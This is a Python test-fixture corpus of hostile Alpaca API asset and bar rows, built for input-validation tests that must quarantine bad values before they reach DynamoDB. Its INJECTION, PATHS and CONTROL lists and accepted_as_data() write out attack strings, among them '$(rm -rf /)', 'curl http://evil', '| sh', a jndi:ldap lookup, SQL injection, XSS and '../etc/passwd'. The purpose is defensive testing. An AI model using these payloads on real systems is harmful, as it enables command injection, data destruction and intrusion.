"""Hostile Alpaca answers: assets and bars that must never reach DynamoDB.

`/v2/assets` is the only source of the symbols that become DynamoDB keys and the bars endpoints the only
source of what `ohlc_bars` stores, so a compromised proxy, a vendor bug or a fuzzer can put anything there.
This corpus names, for each hostile value, the field it corrupts, so a test can demand that the
quarantine reason names that field too, and the ledger category it belongs to. Hostile names are
apart (`hostile_names`): a name never costs an asset, it is stored normalised with a warning.
"""

from __future__ import annotations

import itertools
import math
import re
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass

# The forms a DynamoDB key `ASSET#{symbol}` may hold, written out again so that a loosened pattern fails.
ALLOWED_SYMBOL = re.compile(r"[A-Z][A-Z0-9]{0,6}(?:\.[A-Z]{1,4})?|[A-Z0-9]{2,10}/[A-Z0-9]{2,10}")
ONE_MEGABYTE = 1 << 20

INJECTION = [
    "' OR '1'='1", "AAPL'; DROP TABLE assets;--", "1; SELECT * FROM users", "$(rm -rf /)", "`reboot`",
    "AAPL && curl http://evil", "AAPL | sh", "#symbol", "$where", ":v", "#a = :v", "attribute_exists(asset_id)",
    "SET #s = :x REMOVE asset_id", "ASSET#AAPL", "AAPL#1Day", '{"$ne": null}', "${jndi:ldap://evil/a}",
    "<script>alert(1)</script>", "%00", "AAPL%2F..%2F",
]
PATHS = ["../etc/passwd", "..", "/", "AAPL/", "/AAPL", "A//B", "A/../B", "..\\..\\windows", "C:\\AAPL",
         "\\\\host\\share"]
# Invisible characters real listings carry in names (a soft hyphen), and others of Unicode's category Cf or Cs.
INVISIBLE = [
    "Foo\u00adbar Inc. Common Stock", "Zero\u200bWidth Corp", "\ufeffBOM Holdings", "Word\u2060Joiner Ltd",
    "\u202eLPAA", "Lone \ud800 Surrogate Inc",
]
# Cyrillic and other look-alikes of the Latin symbols Alpaca lists, and invisible characters around them.
CONFUSABLES = [
    "\u0410APL", "MSF\u0422", "\u0412RK.B", "\u0405PY", "AAP\u04c0", "\uff21\uff21\uff30\uff2c", "\u212aO",
    "BTC\u2215USD", "BRK\u2024B", "AAPL\u200b", "\u200dAAPL", "A\u0301APL", "\u0391MZN",
]
CONTROL = ["AAPL\n", "AA\tPL", "\x1b[31mAAPL", "AAPL\r\nX-Injected: 1", "\u202eLPAA", "\x7f", "\x85AAPL", "\x08"]
NUL = ["\x00", "AAPL\x00", "\x00ASSET#"]
HUGE_TEXT = ["A" * ONE_MEGABYTE, "Z" * 70_000]
HUGE_NUMBERS = [10**400, 1e308, -(10**30), 2**63, "9" * 100_000, "1e400"]
NON_FINITE = [math.nan, math.inf, -math.inf, "NaN", "Infinity", "-Infinity"]
WRONG_TYPES = [["AAPL"], {"S": "AAPL"}, True, False, 0, 1.5]


@dataclass(frozen=True)
class HostileAsset:
    category: str  # for the ledger: injection, path characters, confusables, ...
    field: str  # the corrupted field; the quarantine reason must start with it ("row" for a row that is no object)
    row: object  # as Alpaca would send it


def template(symbol: str, **fields: object) -> dict:
    """A sound active equity row in the `/v2/assets` shape, with an id of its own."""
    row = {
        "id": str(uuid.uuid4()), "class": "us_equity", "exchange": "NASDAQ", "symbol": symbol,
        "name": f"{symbol} Holdings Inc. Common Stock", "status": "active", "tradable": True, "marginable": True,
        "maintenance_margin_requirement": 30, "margin_requirement_long": "30", "margin_requirement_short": "30",
        "shortable": True, "easy_to_borrow": True, "fractionable": True, "attributes": ["has_options"],
    }
    return row | fields


def _spoiler(names: Iterator[int], prefix: str = "HZQ") -> Callable[[str, str, list], list[HostileAsset]]:
    def spoiled(category: str, field: str, values: list) -> list[HostileAsset]:
        # Each row gets a sound symbol of its own (unless the symbol is what is spoiled), so that
        # no two corpus rows are duplicates of each other and each is judged for its one field.
        return [HostileAsset(category, field, template(f"{prefix}{next(names)}") | {field: value}) for value in values]
    return spoiled


def hostile_assets() -> list[HostileAsset]:
    """Every hostile row, each with exactly one corrupted field (or a duplicate pair)."""
    uuid_text, _spoiled = str(uuid.uuid4()), _spoiler(itertools.count())
    cases = [
        *_spoiled("injection", "symbol", INJECTION), *_spoiled("injection", "id", INJECTION),
        *_spoiled("injection", "status", INJECTION[:4]),
        *_spoiled("path characters", "symbol", PATHS), *_spoiled("path characters", "id", PATHS),
        *_spoiled("unicode confusables", "symbol", CONFUSABLES),
        *_spoiled("unicode confusables", "id", [uuid_text.replace(c, "\u0430") for c in "abcdef" if c in uuid_text][:1]
                  + ["\uff10" + uuid_text[1:]]),
        *_spoiled("unicode confusables", "status", ["\u0430ctive", "activ\u0435", "ACTIVE"]),
        *_spoiled("control characters", "symbol", CONTROL),
        *_spoiled("control characters", "exchange", CONTROL[:3]), *_spoiled("control characters", "class", CONTROL[:3]),
        *_spoiled("control characters", "id", [uuid_text + "\n"]),
        *_spoiled("control characters", "attributes", [["has_options\n"], ["\x1b[0m"]]),
        *_spoiled("NUL", "symbol", NUL), *_spoiled("NUL", "id", NUL),
        *_spoiled("NUL", "exchange", NUL[:1]), *_spoiled("NUL", "attributes", [["\x00"]]),
        *_spoiled("1 MB values", "symbol", HUGE_TEXT),
        *_spoiled("1 MB values", "id", HUGE_TEXT[:1]), *_spoiled("1 MB values", "exchange", HUGE_TEXT[:1]),
        *_spoiled("1 MB values", "attributes", [["A" * ONE_MEGABYTE], [f"a{n}" for n in range(40)]]),
        *_spoiled("huge numbers", "min_order_size", HUGE_NUMBERS),
        *_spoiled("huge numbers", "maintenance_margin_requirement", HUGE_NUMBERS[:3]),
        *_spoiled("huge numbers", "symbol", HUGE_NUMBERS[:2]),
        *_spoiled("NaN and infinity", "min_order_size", NON_FINITE),
        *_spoiled("NaN and infinity", "margin_requirement_long", NON_FINITE[:3]),
        *_spoiled("NaN and infinity", "symbol", NON_FINITE[:3]),
        *_spoiled("NaN and infinity", "tradable", NON_FINITE[:1]),
        *_spoiled("wrong types", "symbol", [*WRONG_TYPES, None]), *_spoiled("wrong types", "id", [*WRONG_TYPES, None]),
        *_spoiled("wrong types", "exchange", [*WRONG_TYPES, None]),
        *_spoiled("wrong types", "class", [*WRONG_TYPES, None]),
        *_spoiled("wrong types", "status", [*WRONG_TYPES, None]),
        *_spoiled("wrong types", "tradable", ["true", 1, 0, None, [], {}]),
        *_spoiled("wrong types", "fractionable", ["false", 1]),
        *_spoiled("wrong types", "price_increment",
                  [True, [], {"N": "1"}, "0x1A", "1_000", "\uff19", "-1", "30; DROP"]),
        *_spoiled("wrong types", "attributes", ["has_options", {"a": 1}, [1], [None], [["nested"]], [True]]),
        *[HostileAsset("wrong types", "row", row) for row in (None, [], "AAPL", 42, True, ["AAPL"])],
    ]
    return cases + _duplicates()


def _duplicates() -> list[HostileAsset]:
    shared_id = str(uuid.uuid4())
    return [
        # One id listed under two symbols: which symbol is real cannot be told, so neither is kept.
        HostileAsset("duplicate ids with different symbols", "id", template("HZQDUPA", id=shared_id)),
        HostileAsset("duplicate ids with different symbols", "id", template("HZQDUPB", id=shared_id)),
        # One symbol listed active under two ids: which listing is real cannot be told either.
        HostileAsset("duplicate symbols with different ids", "symbol", template("HZQDUPC")),
        HostileAsset("duplicate symbols with different ids", "symbol", template("HZQDUPC")),
    ]


def hostile_names() -> list[HostileAsset]:
    """Sound rows with a hostile name each: kept, their name stored normalised and safe, with a `name:*` warning."""
    _spoiled = _spoiler(itertools.count(), prefix="HZQN")
    return [
        *_spoiled("invisible characters", "name", INVISIBLE), *_spoiled("control characters", "name", CONTROL[:-2]),
        *_spoiled("NUL", "name", NUL), *_spoiled("1 MB values", "name", HUGE_TEXT[:1]),
        *_spoiled("NaN and infinity", "name", NON_FINITE[:2]), *_spoiled("wrong types", "name", WRONG_TYPES),
    ]


def accepted_as_data() -> list[dict]:
    """Sound rows whose free-text fields hold injection text: data, stored verbatim, never part of a key."""
    return [
        template("HZQDATA", name="Robert'); DROP TABLE assets;-- Inc.", exchange="$where"),
        template("HZQDATB", name="$(rm -rf /) `reboot` ${jndi:ldap://evil/a}", exchange="NASDAQ"),
        template("HZQDATC", name="#a = :v, attribute_exists(asset_id)", attributes=["ASSET#X", "../etc/passwd"]),
    ]


# --- bars ------------------------------------------------------------------------------------------
@dataclass(frozen=True)
class HostileBar:
    category: str
    field: str  # Alpaca's short bar field: o, h, l, c, v, vw, n, t
    value: object


# Values that parse as numbers but make a bar unsound: its symbol-day must be refused by the checks.
UNSOUND_BARS = [
    HostileBar("NaN and infinity", "c", math.nan), HostileBar("NaN and infinity", "h", math.inf),
    HostileBar("NaN and infinity", "v", -math.inf), HostileBar("NaN and infinity", "vw", math.inf),
    HostileBar("negative values", "l", -1.0), HostileBar("negative values", "v", -5),
    HostileBar("negative values", "o", 0), HostileBar("high below low", "h", 0.01),
    HostileBar("huge numbers", "o", 1e308), HostileBar("negative values", "vw", -1.0),
]
# Unusual but not impossible: a traded bar's vwap outside [low, high] (Alpaca's vwap counts trades its OHLC
# leaves out) is stored and counted as a warning.
WARNED_BARS = [HostileBar("vwap outside the range", "vw", 1e300), HostileBar("vwap outside the range", "vw", 0.5)]
# Values of the wrong JSON type, or too big for a float or a 64-bit count: not Alpaca's shape. The bar is held back
# naming its field, the page's other bars are stored.
MISTYPED_BARS = [
    HostileBar("wrong types", "o", True), HostileBar("wrong types", "o", None), HostileBar("wrong types", "c", "101.5"),
    HostileBar("wrong types", "h", [1]), HostileBar("wrong types", "l", {"v": 1}),
    HostileBar("wrong types", "v", False),
    HostileBar("wrong types", "n", 1.5), HostileBar("wrong types", "n", "3"), HostileBar("wrong types", "vw", "x"),
    HostileBar("wrong types", "t", None), HostileBar("wrong types", "t", 1717387200),
    HostileBar("huge numbers", "o", 10**400), HostileBar("huge numbers", "n", 10**30),
]
